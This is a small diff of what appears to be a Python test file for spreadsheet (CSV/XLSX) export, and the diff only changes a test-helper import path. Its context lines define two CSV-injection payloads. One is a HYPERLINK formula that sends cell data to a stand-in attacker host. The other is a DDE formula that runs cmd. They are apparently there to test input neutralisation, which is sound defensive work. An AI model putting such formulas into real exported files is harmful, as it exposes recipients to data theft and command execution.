@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from api.roster.parser import TEMPLATE_HEADER
 from api.spreadsheet import csv_bytes, neutralise, xlsx_bytes
-from tests.api_support import ApiWorld
+from tests.support.api import ApiWorld
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
 DDE = "+cmd|' /C calc'!A0"
